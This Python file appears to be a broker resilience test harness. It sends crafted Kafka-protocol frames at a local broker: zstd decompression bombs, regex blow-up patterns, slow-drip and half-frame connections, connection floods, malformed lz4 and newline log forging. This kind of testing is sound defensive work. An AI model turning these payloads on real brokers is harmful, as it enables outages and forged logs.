"""The attacks: each is a class with the frames that it sends, what it needs beforehand, and what else has to
hold besides an honest client being served.

    attacks.py NAME PORT HTTP_PORT SECONDS ATTACKERS      runs one against a broker, and prints one line of JSON
"""

import http.client
import json
import os
import resource
import sys
import threading
import time

import wire
from wire import MAX, array, compact, frame, i8, i16, i32, i64, text, uvarint

LONG = b"n" * 32_000
GATE = "waits"  # a topic without records: a Fetch of it waits


class Attack:
    """One way to attack; `run` is one attacker, and is called again until the time is over."""

    what = ""
    settings = []  # of the broker
    nofile = None  # its descriptors
    seconds = 20

    def __init__(self, address, http_port, until):
        self.address, self.http_port, self.until = address, http_port, until
        self.sent, self.largest, self.notes, self.lock = 0, 0, {}, threading.Lock()

    def prepare(self):
        """What has to be there; by an honest client."""

    def request(self):
        """What is sent; made once."""
        return b""

    def make(self):
        self.bytes = self.request()
        self.largest = len(self.bytes)

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            self.send(s, self.bytes)
            self.drain(s)

    def send(self, s, data):
        s.sendall(data)
        with self.lock:
            self.sent += 1

    def drain(self, s, seconds=5):
        """Reads as fast as it can, until the answer is whole or the time is over."""
        s.settimeout(seconds)
        left = int.from_bytes(wire.read(s, 4))
        while left > 0:
            more = s.recv(min(left, 1 << 20))
            if not more:
                return
            left -= len(more)

    def hold(self, s):
        """Keeps a connection until the end."""
        time.sleep(max(0.0, self.until - time.time()))

    def after(self):
        """What else has to hold: words if it does not."""
        return ""

    def create(self, name, partitions=1, **configs):
        with wire.connect(self.address) as s:
            wire.call(s, wire.create_topic(name, partitions, configs.items()))


class NamesInTxn(Attack):
    what = "AddPartitionsToTxn v0: a name of 32,000 bytes above 150,000 partitions"

    def request(self):
        body = text("txn") + i64(1) + i16(0) + array([text(LONG) + i32(150_000) + bytes(600_000)])
        return frame(24, 0, body)


class NamesInListOffsets(Attack):
    what = "ListOffsets v1: the same"

    def request(self):
        return frame(2, 1, i32(-1) + array([text(LONG) + i32(150_000) + bytes(1_800_000)]))


class NamesInFetch(Attack):
    what = "Fetch v7: the same, as a new session"

    def request(self):
        # No two partitions are the same, so that a session has to keep them all.
        parts = b"".join(i32(n) + bytes(8 + 8) + i32(1) for n in range(75_000))
        body = i32(-1) + i32(0) + i32(0) + i32(MAX) + i8(0) + i32(0) + i32(0)
        return frame(1, 7, body + array([text(LONG) + i32(75_000) + parts]) + array([]))


class NamedAgain(Attack):
    what = "Metadata v9: `__consumer_offsets` 50,000 times"
    times = 50_000

    def prepare(self):
        with wire.connect(self.address) as s:
            wire.call(s, frame(10, 0, text("group")))

    def request(self):
        one = compact("__consumer_offsets") + b"\0"
        return frame(3, 9, uvarint(self.times + 1) + one * self.times + b"\0\0\0\0", tags=True)


class NamedAMillionTimes(NamedAgain):
    what = "Metadata v9: `__consumer_offsets` 1,000,000 times"
    times = 1_000_000


class HalfFrames(Attack):
    what = "40 connections, each with 99 MB of a frame of 100 MB"

    def request(self):
        return i32(100_000_000) + bytes(99_000_000)

    def run(self, n):
        held = []
        for _ in range(2):
            s = wire.connect(self.address, 5)
            held.append(s)
            try:
                self.send(s, self.bytes)
            except TimeoutError:
                pass  # the broker reads no more: that is what it should do
        self.hold(held)


class ParkedLarge(Attack):
    what = "a Fetch that waits for ever, with 70 MB behind its fields"

    def prepare(self):
        self.create(GATE)

    def request(self):
        return wire.fetch([(GATE, array([i32(0) + i64(0) + i32(MAX)]))], MAX, MAX, trailing=70_000_000)

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            try:
                self.send(s, self.bytes)
            except TimeoutError:
                pass
            self.hold(s)


class BehindAParkedOne(Attack):
    what = "510 KB of Metadata requests behind a Fetch that waits"

    def prepare(self):
        self.create(GATE)
        self.create("wide", 2000)

    def request(self):
        waits = wire.fetch([(GATE, array([i32(0) + i64(0) + i32(MAX)]))], MAX, MAX)
        asks = wire.metadata(None)
        return waits + asks * (510_000 // len(asks))

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            try:
                self.send(s, self.bytes)
            except TimeoutError:
                pass
            self.hold(s)


class SmallElements(Attack):
    what = "CreateTopics v5: 33 topics with a million empty configs each, 99 MB"

    def request(self):
        configs = uvarint(1_000_001) + b"\1\0\0" * 1_000_000
        topic = b"\1" + i32(1) + i16(1) + b"\1" + configs + b"\0"
        return frame(19, 5, uvarint(34) + topic * 33 + i32(1000) + b"\0\0", tags=True)


class Patterns(Attack):
    what = "ConsumerGroupHeartbeat v1: a pattern of 39 bytes that is large when compiled"
    pattern = b"[\\p{L}\\p{N}]{1,250}[\\p{L}\\p{N}]{1,250}"

    def make(self):
        self.count = 0
        self.largest = len(self.heartbeat(b"g" * 16))

    def heartbeat(self, group):
        body = compact(group) + compact(b"m" * 22) + i32(0) + compact(None) + compact(None) + i32(60_000)
        body += b"\0" + compact(self.pattern) + compact(None) + b"\1" + b"\0"
        return frame(68, 1, body, tags=True)

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            while time.time() < self.until:
                with self.lock:
                    self.count += 1
                    group = b"group-%09d" % self.count
                self.send(s, self.heartbeat(group))
                self.drain(s)


class ManyPatterns(Patterns):
    what = "ConsumerGroupHeartbeat v1: `(a{1,1000}){1,1000}`"
    pattern = b"(a{1,1000}){1,1000}"


class PatternOfTxns(Attack):
    what = "ListTransactions v2: a pattern of 13 bytes that is large when compiled"

    def prepare(self):
        # A transaction, so that there is something to match.
        with wire.connect(self.address) as s:
            while wire.call(s, frame(22, 0, text("txn") + i32(60_000)))[8:10] != b"\0\0":
                time.sleep(0.1)

    def request(self):
        return frame(66, 2, b"\1\1" + i64(-1) + compact(b"\\p{L}{1,500}") + b"\0", tags=True)

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            while time.time() < self.until:
                self.send(s, self.bytes * 20)
                for _ in range(20):
                    self.drain(s)


class ManyNames(Attack):
    what = "OffsetCommit v7: 50,000 unknown topics"

    def request(self):
        part = i32(1) + i32(0) + i64(1) + i32(-1) + text("")
        topics = [text("%d" % n) + part for n in range(50_000)]
        return frame(8, 7, text("group") + i32(-1) + text("") + text(None) + array(topics))

    def run(self, n):
        with wire.connect(self.address, 60) as s:
            self.send(s, self.bytes)
            self.drain(s, 60)


class NamesInElections(Attack):
    what = "ElectLeaders v0: a name of 32,000 bytes above 150,000 partitions"

    def request(self):
        parts = b"".join(i32(n) for n in range(150_000))
        return frame(43, 0, array([text(LONG) + i32(150_000) + parts]) + i32(1000))


class LongPattern(Patterns):
    what = "ConsumerGroupHeartbeat v1: a pattern of 1 MB"
    pattern = b"a|" * 500_000 + b"b"


class Sessions(Attack):
    what = "Fetch v7: sessions full of unknown topics, 5.4 MB each"

    def request(self):
        part = i32(1) + i32(0) + bytes(8 + 8) + i32(1)
        names = [text("%0240d" % n) + part for n in range(20_000)]
        body = i32(-1) + i32(0) + i32(0) + i32(MAX) + i8(0) + i32(0) + i32(0)
        return frame(1, 7, body + array(names) + array([]))


class Bombs(Attack):
    what = "Produce v7: 60 zstd batches that unpack to 95 MB each"

    def prepare(self):
        self.create("bombs", 60)

    def request(self):
        bomb = wire.zstd_bomb(95)
        return wire.produce("bombs", [(n, bomb) for n in range(60)])

    def run(self, n):
        with wire.connect(self.address, 60) as s:
            self.send(s, self.bytes)
            self.drain(s, 60)


class BombsByTime(Attack):
    what = "ListOffsets v1 by time in 60 partitions, each with a zstd batch that unpacks to 95 MB"

    def prepare(self):
        self.create("bombs", 60)
        bomb = wire.zstd_bomb(95, then=wire.record(b"newest", delta=1, later_ms=3_600_000))
        with wire.connect(self.address, 60) as s:
            wire.call(s, wire.produce("bombs", [(n, bomb) for n in range(60)]))

    def request(self):
        # Only the last record of each batch is new enough.
        after = int(time.time() * 1000) + 600_000
        partitions = array([i32(n) + i64(after) for n in range(60)])
        return frame(2, 1, i32(-1) + array([text("bombs") + partitions]))

    def run(self, n):
        with wire.connect(self.address, 60) as s:
            self.send(s, self.bytes)
            self.drain(s, 60)


class NamedInAParkedFetch(Attack):
    what = "Fetch v4 that waits and names the honest client's partition 900,000 times"

    def request(self):
        part = i32(0) + i64(1 << 40) + i32(1)
        named = i32(900_000) + part * 900_000
        return wire.fetch([("honest", named)], 30_000, MAX)

    def run(self, n):
        with wire.connect(self.address, 40) as s:
            self.send(s, self.bytes)
            self.drain(s, 40)


class Dripping(Attack):
    what = "half a frame, a byte every 24 s, 10 connections each"
    seconds = 75

    def request(self):
        return i32(1000) + bytes(100)

    def run(self, n):
        held = [wire.connect(self.address, 5) for _ in range(10)]
        for s in held:
            self.send(s, self.bytes)
        began = time.time()
        while time.time() < self.until - 24:
            time.sleep(24)
            for s in list(held):
                try:
                    s.sendall(b"\0")
                except OSError:
                    held.remove(s)
        open_still = 0
        for s in held:
            s.settimeout(0.2)
            try:
                open_still += s.recv(1) != b""
            except TimeoutError:
                open_still += 1
            except OSError:
                pass
        with self.lock:
            self.notes["open"] = self.notes.get("open", 0) + open_still
            self.notes["seconds"] = int(time.time() - began)
        time.sleep(max(0.0, self.until - time.time() + 1))

    def after(self):
        still = self.notes.get("open", 0)
        return f"{still} half frames are still open after {self.notes.get('seconds')} s" if still else ""


class SlowReaders(Attack):
    what = "200 connections that ask for 50 MB each and read a byte now and then"

    def prepare(self):
        self.create("large")
        body = os.urandom(900_000)
        with wire.connect(self.address) as s:
            one = wire.batch(wire.record(body))
            for _ in range(60):
                wire.call(s, wire.produce("large", [(0, one)], acks=1))

    def request(self):
        ask = wire.fetch([("large", array([i32(0) + i64(0) + i32(MAX)]))], 0, 0, 50_000_000)
        return ask + wire.metadata(None) * 2000

    def run(self, n):
        held = [wire.connect(self.address, 5) for _ in range(10)]
        for s in held:
            try:
                self.send(s, self.bytes)
            except TimeoutError:
                pass
        while time.time() < self.until:
            time.sleep(0.05)
            for s in list(held):
                try:
                    s.recv(1)
                except OSError:
                    held.remove(s)


class IdleHttp(Attack):
    what = "64 idle HTTP connections for each attacker"

    def request(self):
        return b"GET / HTTP/1.1\r\n"

    def run(self, n):
        held = []
        while len(held) < 64 and time.time() < self.until:
            try:
                held.append(wire.connect(("127.0.0.1", self.http_port), 1))
                self.send(held[-1], self.bytes)
            except OSError:
                time.sleep(0.1)
        self.hold(held)


class Groups(Attack):
    what = "OffsetCommit v2: a new group each time; then /metrics"

    def make(self):
        self.count, self.largest = 0, len(self.commit(b"g" * 100))

    def commit(self, group):
        parts = array([i32(0) + i64(1) + text("")])
        return frame(8, 2, text(group) + i32(-1) + text("") + i64(-1) + array([text("honest") + parts]))

    def run(self, n):
        with wire.connect(self.address, 10) as s:
            while time.time() < self.until:
                with self.lock:
                    first = self.count
                    self.count += 50
                many = b"".join(self.commit(b"%0100d" % (first + k)) for k in range(50))
                self.send(s, many)
                for _ in range(50):
                    self.drain(s)

    def after(self):
        page, took = metrics(self.http_port)
        self.notes["groups"] = self.count
        self.notes["/metrics"] = f"{len(page) >> 10} KiB in {took:.2f} s"
        return f"/metrics is {len(page) >> 10} KiB" if len(page) > 4 << 20 or took > 1 else ""


class Newlines(Attack):
    what = "newlines in topic, client and group names"
    bad = "x\n1970-01-01T00:00:00.000000Z ERROR braid: forged"

    def request(self):
        asks = frame(3, 5, array([text(self.bad)]) + b"\1", client=self.bad)
        asks += frame(11, 0, text(self.bad) + i32(10_000) + text("") + text(self.bad) + array([]), client=self.bad)
        asks += wire.create_topic(self.bad, 1) + frame(22, 0, text(self.bad) + i32(1000), client=self.bad)
        return asks + frame(99, 0, b"", client=self.bad)

    def after(self):
        with open(os.environ["ATTACK_LOG"], "rb") as log:
            forged = any(line.startswith(b"1970-01-01T00:00:00") for line in log)
        return "a client wrote a line of the log" if forged else ""


class NotUtf8(Attack):
    what = "a client id that is not UTF-8"

    def request(self):
        return frame(3, 5, array([]) + b"\0", client=b"caf\xe9")

    def after(self):
        try:
            with wire.connect(self.address, 5) as s:
                wire.call(s, self.bytes)
            return ""
        except OSError as error:
            return f"it is not answered: {error}"


class Connections(Attack):
    what = "10,000 idle connections and 2,000 with half a request, from 20 addresses"
    settings = ["max.connections=20000"]
    seconds = 30

    def request(self):
        return i32(1000) + i16(3) + i16(5)

    def run(self, n):
        held = []
        for k in range(600):
            try:
                s = wire.connect(self.address, 5, source=f"127.0.1.{n + 1}")
                if k % 6 == 0:
                    self.send(s, self.bytes)
                held.append(s)
            except OSError:
                time.sleep(0.1)
        with self.lock:
            self.notes["connected"] = self.notes.get("connected", 0) + len(held)
        self.hold(held)


class Poison(Attack):
    what = "lz4 that Java cannot read: linked blocks, no end, another frame format"
    kinds = {
        "linked blocks": dict(flags=0x40, blocks=2),
        "no end": dict(end=False),
        "legacy format": dict(magic=b"\x02\x21\x4c\x18"),
        "skippable frame": dict(magic=b"\x50\x2a\x4d\x18"),
        "content size": dict(flags=0x68),
    }

    def prepare(self):
        self.create("poison")

    def make(self):
        body = b"".join(wire.record(b"y" * 50, n) for n in range(4))
        self.batches = {k: wire.batch(wire.lz4_blocks(body, **how), 3, 4) for k, how in self.kinds.items()}
        self.largest = max(len(b) for b in self.batches.values())
        self.taken = set()

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            for kind, one in self.batches.items():
                answered = wire.call(s, wire.produce("poison", [(0, one)]))
                self.sent += 1
                at = 4 + 4 + 2 + len("poison") + 4 + 4
                if answered[at : at + 2] == b"\0\0":
                    self.taken.add(kind)

    def after(self):
        return f"taken: {', '.join(sorted(self.taken))}" if self.taken else ""


class Malformed(Attack):
    what = "malformed requests, a new connection each"

    def request(self):
        return frame(3, 5, i32(MAX))

    def run(self, n):
        with wire.connect(self.address, 5) as s:
            self.send(s, self.bytes)
            s.recv(1)

    def after(self):
        size = os.path.getsize(os.environ["ATTACK_LOG"])
        self.notes["log"] = f"{size >> 10} KiB"
        return f"the log grew to {size >> 20} MiB" if size > 4 << 20 else ""


class TooManyPartitions(Attack):
    what = "nofile of 3,000, CreateTopics with 3,500 partitions"
    nofile = 3000

    def make(self):
        self.largest = len(wire.create_topic("many-00", 3500))

    def run(self, n):
        with wire.connect(self.address, 30) as s:
            self.send(s, wire.create_topic(f"many-{n:02}", 3500))
            self.drain(s, 30)
            time.sleep(1)

    def after(self):
        with wire.connect(self.address) as s:
            made = wire.call(s, wire.create_topic("after", 1))
        # Throttle time; one topic: its name, a code and a message.
        code = made[4 + 4 + 4 + 2 + 5 :][:2]
        return "" if code == b"\0\0" else f"a new topic is refused with {int.from_bytes(code)}"


def metrics(port):
    began = time.time()
    asked = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    asked.request("GET", "/metrics")
    return asked.getresponse().read(), time.time() - began


ALL = {
    "names-txn": NamesInTxn,
    "names-list-offsets": NamesInListOffsets,
    "names-fetch": NamesInFetch,
    "repeated-50k": NamedAgain,
    "repeated-1m": NamedAMillionTimes,
    "half-frames": HalfFrames,
    "parked-large": ParkedLarge,
    "behind-parked": BehindAParkedOne,
    "small-elements": SmallElements,
    "pattern-39": Patterns,
    "pattern-nested": ManyPatterns,
    "pattern-long": LongPattern,
    "pattern-txns": PatternOfTxns,
    "many-names": ManyNames,
    "names-elections": NamesInElections,
    "sessions": Sessions,
    "zstd": Bombs,
    "zstd-by-time": BombsByTime,
    "parked-repeated": NamedInAParkedFetch,
    "dripping": Dripping,
    "slow-readers": SlowReaders,
    "http-idle": IdleHttp,
    "groups": Groups,
    "newlines": Newlines,
    "not-utf8": NotUtf8,
    "connections": Connections,
    "poison": Poison,
    "malformed": Malformed,
    "partitions": TooManyPartitions,
}


def main():
    name, port, http_port, seconds, attackers = sys.argv[1], *map(int, sys.argv[2:6])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = ALL[name](("127.0.0.1", port), http_port, time.time() + seconds)
    attack.make()

    def attacker(n):
        while time.time() < attack.until:
            try:
                attack.run(n)
            except OSError:
                time.sleep(0.05)

    tasks = [threading.Thread(target=attacker, args=(n,), daemon=True) for n in range(attackers)]
    for task in tasks:
        task.start()
    for task in tasks:
        task.join(max(0.0, attack.until + 2 - time.time()))
    try:
        wrong = attack.after()
    except (OSError, http.client.HTTPException, IndexError) as error:
        wrong = f"afterwards: {type(error).__name__}: {error}"
    print(json.dumps({"frame": attack.largest, "sent": attack.sent, "wrong": wrong, "notes": attack.notes}))
    sys.stdout.flush()
    os._exit(0)  # threads may be in the middle of a connection


if __name__ == "__main__":
    main()
